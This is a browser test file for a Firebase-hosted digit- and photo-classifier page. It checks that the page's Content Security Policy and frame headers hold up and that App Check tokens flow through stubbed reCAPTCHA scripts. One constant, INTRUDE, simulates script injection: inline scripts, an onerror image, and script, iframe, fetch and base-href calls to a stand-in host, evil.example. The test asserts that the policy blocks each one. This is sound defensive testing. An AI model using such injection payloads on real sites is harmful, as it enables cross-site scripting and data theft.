import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { REPOSITORY } from '@pilotlight/local-platform';
import { type Browser, type BrowserContext, chromium, type Page, type Request } from 'playwright-core';
import { PNG } from 'pngjs';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import { BROWSER_ARGS, BROWSER_PATH } from './support/browser.ts';
import { headerRules, servePage } from './support/serve-page.ts';

// The built page, with exactly the headers of firebase.json, at its addresses in the cloud.

const PROJECT = { projectId: 'demo-site', appId: '1:2:web:3', apiKey: 'key' };
const PAGE = 'https://demo-site.web.app/';
const PREDICT = 'https://us-central1-demo-site.cloudfunctions.net/predict';
const CORS = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };

const timing = { loadMs: 0, queueMs: 0, inferenceMs: 1, cold: false, instanceId: 'a' };
const image = { dtype: 'float32', shape: [-1, 8, 8, 3] };
const DESCRIPTION = {
  models: [
    {
      model: 'photos',
      version: 1,
      format: 'tflite',
      engine: 'litert',
      imageInput: 'image',
      signatures: {
        serving_default: {
          inputs: { image },
          outputs: { scores: { dtype: 'float32', shape: [-1, 2] } },
        },
      },
    },
  ],
};
const GUESSES = {
  top: [
    [
      { index: 0, label: 'tabby', score: 0.9 },
      { index: 1, label: 'teapot', score: 0.1 },
    ],
  ],
  model: 'photos',
  version: 1,
  timing,
};
const SEVEN = {
  predictions: [Array.from({ length: 10 }, (_, n) => (n === 7 ? 0.91 : 0.01))],
  model: 'digits',
  version: 2,
  timing,
};

/** Imitates reCAPTCHA's own scripts: each loads the next, and shows itself with its own styles and frames. */
const RECAPTCHA_ENTERPRISE = `
  const waiting = [];
  self.grecaptcha = { enterprise: { ready: (then) => waiting.push(then) } };
  self.recaptchaIsThere = (enterprise) => {
    Object.assign(grecaptcha.enterprise, enterprise, { ready: (then) => then() });
    for (const then of waiting) then();
  };
  const next = document.createElement('script');
  next.src = 'https://www.gstatic.com/recaptcha/releases/a/recaptcha__en.js';
  document.head.append(next);`;
const RECAPTCHA_RELEASE = `
  const style = document.createElement('style');
  style.textContent = '.grecaptcha-badge { position: fixed; width: 256px }';
  document.head.append(style);
  let passed;
  recaptchaIsThere({
    render(container, { callback }) {
      passed = callback;
      const badge = document.createElement('div');
      badge.className = 'grecaptcha-badge';
      badge.innerHTML = '<div style="visibility: hidden"></div>';
      for (const host of ['www.google.com', 'recaptcha.google.com']) {
        const frame = document.createElement('iframe');
        frame.src = 'https://' + host + '/recaptcha/enterprise/anchor';
        badge.append(frame);
      }
      document.body.append(badge);
      return 0;
    },
    async execute() {
      await fetch('https://www.google.com/recaptcha/enterprise/clr', { method: 'POST', body: 'x' });
      passed();
      return 'passed';
    },
  });`;

const COLLECT_VIOLATIONS = `
  globalThis.violations = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
    violations.push(effectiveDirective + ' ' + blockedURI);
  });`;

/** Tries what an attacker would who got a piece of HTML or script into the page. */
const INTRUDE = `(async () => {
  const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
  add('script', { textContent: 'globalThis.broken = true' });
  document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="globalThis.broken = true">');
  add('script', { src: 'https://evil.example/a.js' });
  add('iframe', { src: 'https://evil.example/' });
  await fetch('https://evil.example/', { method: 'POST' }).catch(() => undefined);
  await fetch('http://127.0.0.1:9/').catch(() => undefined);
  add('base', { href: 'https://evil.example/' });
})()`;

describe.skipIf(BROWSER_PATH === undefined)('the page under its own policy, in a real browser', () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  /** Addresses of requests that no test expects. */
  let strange: string[];
  /** Calls that reached `predict`. */
  let calls: Request[];
  let loaded: string[];
  const errors: string[] = [];

  beforeAll(async () => {
    browser = await chromium.launch({ executablePath: BROWSER_PATH ?? '', args: BROWSER_ARGS });
  });
  afterAll(() => browser?.close());

  beforeEach(async () => {
    strange = [];
    calls = [];
    loaded = [];
    errors.length = 0;
    context = await browser.newContext({ reducedMotion: 'reduce' });
    await context.addInitScript(COLLECT_VIOLATIONS);
    await context.route('**', (route) => {
      strange.push(route.request().url());
      return route.abort();
    });
    await context.route(PREDICT, async (route) => {
      const request = route.request();
      if (request.method() === 'OPTIONS') return route.fulfill({ status: 204, headers: CORS });
      calls.push(request);
      const { data } = request.postDataJSON();
      const result = data.op === 'describe' ? DESCRIPTION : data.model === 'photos' ? GUESSES : SEVEN;
      return route.fulfill({ headers: CORS, json: { result } });
    });
    page = await context.newPage();
    page.on('console', (message) => {
      if (message.type() === 'error') errors.push(message.text());
    });
    page.on('pageerror', ({ message }) => errors.push(message));
  });
  afterEach(() => context.close());

  /** Maps the page's address in the cloud to one that is served here. */
  const lead = (url: string) =>
    context.route(`${PAGE}**`, async (route) => {
      const { pathname } = new URL(route.request().url());
      await route.fulfill({ response: await route.fetch({ url: `${url}${pathname}` }) });
    });
  const tokens = () => calls.map((call) => call.headers()['x-firebase-appcheck']);
  const violations = (): Promise<string[]> => page.evaluate('violations');

  /** Draws a stroke with the keyboard from the pen's position, which is at first in the middle. */
  async function drawADigit(key = 'ArrowDown'): Promise<void> {
    const canvas = page.getByLabel('Draw a digit');
    await page.getByRole('button', { name: 'Clear' }).click();
    await expect.poll(() => page.getByTestId('answer').textContent()).toBe('');
    await canvas.focus();
    await page.keyboard.press('Space');
    for (let n = 0; n < 10; n++) await page.keyboard.press(key);
    await page.keyboard.press('Space');
    await expect.poll(() => page.getByTestId('answer').textContent()).toBe('7');
  }

  /** Replaces Google's scripts and App Check, which gives a new token each time. */
  async function standIn(): Promise<object[]> {
    const exchanges: object[] = [];
    const script = async (url: string, body: string) =>
      context.route(url, (route) => {
        loaded.push(route.request().url());
        return route.fulfill({ contentType: 'text/javascript', body });
      });
    await script('https://www.google.com/recaptcha/enterprise.js*', RECAPTCHA_ENTERPRISE);
    await script('https://www.gstatic.com/recaptcha/**', RECAPTCHA_RELEASE);
    await context.route(/\/recaptcha\/enterprise\/(anchor|clr)$/, (route) => {
      loaded.push(route.request().url());
      return route.fulfill({ contentType: 'text/html', headers: CORS, body: 'reCAPTCHA' });
    });
    await context.route('https://content-firebaseappcheck.googleapis.com/**', (route) => {
      exchanges.push(route.request().postDataJSON());
      const token = `${Buffer.from('{"alg":"none"}').toString('base64url')}.${exchanges.length}.s`;
      return route.fulfill({ headers: CORS, json: { token, ttl: '3600s' } });
    });
    return exchanges;
  }

  async function showAPhotograph(): Promise<void> {
    const buffer = PNG.sync.write(new PNG({ width: 8, height: 8 }));
    await page.getByRole('tab', { name: 'Photograph' }).click();
    await page.getByTestId('photo-input').setInputFiles({ name: 'cat.png', mimeType: 'image/png', buffer });
    await expect.poll(() => page.getByTestId('photo-answer').textContent()).toBe('tabby');
    await expect.poll(() => page.evaluate("document.getElementById('photo-preview').naturalWidth")).toBe(8);
  }

  it('draws a digit and shows a photograph without breaking it', async () => {
    await using served = await servePage(join(REPOSITORY, 'apps/web/dist'), PROJECT);
    await lead(served.url);
    const response = await page.goto(PAGE);
    const headers = await response?.allHeaders();
    const [everything] = await headerRules();
    expect(everything?.source).toBe('**');
    for (const { key, value } of everything?.headers ?? []) expect(headers?.[key.toLowerCase()]).toBe(value);
    await drawADigit();
    await showAPhotograph();
    // Bars are as long as their shares: styles set by a script are in effect.
    expect(
      await page.evaluate(
        `[...document.querySelectorAll('#bars *')].map(({ style }) => style.cssText).join('')`,
      ),
    ).toContain('--share: 0.91');
    expect({ violations: await violations(), errors, strange }).toEqual({
      violations: [],
      errors: [],
      strange: [],
    });
  });

  it('blocks every script, frame and address that the page does not need, and cannot be framed', async () => {
    await using served = await servePage(join(REPOSITORY, 'apps/web/dist'), PROJECT);
    await lead(served.url);
    await page.goto(PAGE);
    await page.evaluate(INTRUDE);
    await expect
      .poll(async () => (await violations()).toSorted())
      .toEqual(
        [
          'base-uri https://evil.example/',
          'connect-src http://127.0.0.1:9/',
          'connect-src https://evil.example/',
          'frame-src https://evil.example',
          'img-src x',
          'script-src-attr inline',
          'script-src-elem https://evil.example/a.js',
          'script-src-elem inline',
        ].toSorted(),
      );
    expect(await page.evaluate('globalThis.broken')).toBeUndefined();
    expect(strange).toEqual([]);

    await context.route('https://evil.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${PAGE}"></iframe>` }),
    );
    await page.goto('https://evil.example/');
    expect(errors.join()).toMatch(/frame-ancestors|X-Frame-Options/);
    const [, framed] = page.frames();
    expect(await framed?.getByLabel('Draw a digit').count()).toBe(0);
  });

  describe('with App Check', () => {
    let directory: string;
    const build = async (env: Record<string, string>) => {
      const vite = join(REPOSITORY, 'node_modules/.bin/vite');
      await promisify(execFile)(vite, ['build', '--outDir', directory, '--emptyOutDir', '--logLevel=error'], {
        cwd: join(REPOSITORY, 'apps/web'),
        env: { ...process.env, NODE_ENV: 'production', VITE_APP_CHECK_SITE_KEY: 'site-key', ...env },
      });
    };
    beforeEach(async () => {
      directory = await mkdtemp(join(tmpdir(), 'pilotlight-page-'));
    });
    afterEach(() => rm(directory, { recursive: true }));

    it('allows reCAPTCHA’s scripts, frames and styles, and sends one token with every call', async () => {
      await build({});
      await using served = await servePage(directory, PROJECT);
      await lead(served.url);
      const exchanges = await standIn();
      await page.goto(PAGE);
      await drawADigit();
      await drawADigit('ArrowUp');
      expect(exchanges).toEqual([{ recaptcha_enterprise_token: 'passed' }]);
      expect(new Set(tokens()).size).toBe(1);
      expect(tokens()[0]).toMatch(/\.1\.s$/);
      expect(loaded.map((url) => url.replace(/\?.*/, '')).toSorted()).toEqual([
        'https://recaptcha.google.com/recaptcha/enterprise/anchor',
        'https://www.google.com/recaptcha/enterprise.js',
        'https://www.google.com/recaptcha/enterprise/anchor',
        'https://www.google.com/recaptcha/enterprise/clr',
        'https://www.gstatic.com/recaptcha/releases/a/recaptcha__en.js',
      ]);
      const position = `getComputedStyle(document.querySelector('.grecaptcha-badge')).position`;
      expect(await page.evaluate(position)).toBe('fixed');
      expect({ violations: await violations(), errors, strange }).toEqual({
        violations: [],
        errors: [],
        strange: [],
      });
    });

    it('gets a limited-use token for each call if the function consumes them', async () => {
      await build({ VITE_APP_CHECK_LIMITED_USE: 'true' });
      await using served = await servePage(directory, PROJECT);
      await lead(served.url);
      const exchanges = await standIn();
      await page.goto(PAGE);
      await drawADigit();
      await drawADigit('ArrowUp');
      const shown = tokens();
      expect(shown).toHaveLength(2);
      expect(new Set(shown).size).toBe(2);
      expect(exchanges.filter((one) => 'limited_use' in one)).toHaveLength(2);
      expect({ violations: await violations(), errors }).toEqual({ violations: [], errors: [] });
    });
  });
});

it('is served with the same headers by the emulators, with the address of their functions', async () => {
  const { headers } = await fetch(inject('hostingUrl'));
  const [everything] = await headerRules();
  for (const { key, value } of everything?.headers ?? []) {
    expect(headers.get(key)).toBe(
      value.replace('http://127.0.0.1:5001', `http://127.0.0.1:${inject('functionsPort')}`),
    );
  }
});
